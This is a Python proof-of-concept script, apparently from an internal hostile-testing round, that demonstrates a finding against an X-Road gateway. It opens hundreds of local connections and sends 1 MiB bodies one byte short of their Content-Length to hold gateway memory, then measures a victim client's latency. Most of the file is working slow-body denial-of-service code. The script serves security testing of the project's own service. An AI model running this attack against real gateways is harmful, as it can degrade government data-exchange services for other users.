"""Finding: one caller swells the X-Road gateway by ~1 MiB per connection with bodies that stop
one byte short of their Content-Length. The gateway checks X-Road-Client, then reads the body
into memory (request.read(), up to max_value_bytes+1) for up to NDXP_GATEWAY_BODY_TIMEOUT_S
(30 s); nothing counts these connections per client (by_client counts only calls that reached
Replies.expect), so N connections hold ~N MiB for 30 s, and again on reconnect.

Run: cd docs/hostile-runs/round2 && ../../../.venv/bin/python f1_gateway_slow_bodies.py [N]
"""
import asyncio, statistics, sys, time
from common import *

N = int(sys.argv[1]) if len(sys.argv) > 1 else 600
ATTACKER = "VN/GOV/000.00.00.H41/motcua"
VICTIM = "VN/GOV/000.00.00.H40/motcua"
SIZE = 1024 * 1024  # the value limit (1 MiB): accepted as declared

def victim_sample(n=10):
    lat = []
    for _ in range(n):
        code, ms = gw_call(VICTIM)
        lat.append(ms if code == 200 else float("inf"))
    return statistics.median(lat), max(lat)

async def slow_body(i, hold, opened):
    try:
        r, w = await asyncio.open_connection("127.0.0.1", GW_PORT)
    except OSError as e:
        return f"connect: {e}"
    head = (f"POST {POP_URL} HTTP/1.1\r\nHost: x\r\nX-Road-Client: {ATTACKER}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {SIZE}\r\n\r\n").encode()
    w.write(head + b"a" * (SIZE - 1))  # one byte short: the gateway waits for it
    try:
        await w.drain()
    except OSError as e:
        return f"send: {e}"
    opened.append(i)
    await hold.wait()
    w.close()
    return "ok"

async def main():
    print(f"before: gateway RSS {rss('gateway')} MB; victim {VICTIM} median/max ms", victim_sample())
    hold = asyncio.Event(); opened = []
    t0 = time.time()
    tasks = [asyncio.create_task(slow_body(i, hold, opened)) for i in range(N)]
    while len(opened) < N and time.time() - t0 < 25 and not all(t.done() for t in tasks):
        await asyncio.sleep(0.5)
    await asyncio.sleep(2)
    print(f"during: {len(opened)} connections each {SIZE-1:,} bytes of {SIZE:,}, opened in {time.time()-t0:.1f} s")
    lat = await asyncio.to_thread(victim_sample)
    print(f"during: gateway RSS {rss('gateway')} MB; victim median/max ms", lat)
    print("gateway /health:", await asyncio.to_thread(lambda: json.loads(urllib.request.urlopen(f'http://127.0.0.1:{GW_PORT}/health', timeout=10).read())))
    hold.set()
    res = await asyncio.gather(*tasks)
    bad = [x for x in res if x != "ok"]
    print("connection failures:", len(bad), bad[:3])
    await asyncio.sleep(3)
    print(f"after close: gateway RSS {rss('gateway')} MB; victim", victim_sample())

asyncio.run(main())
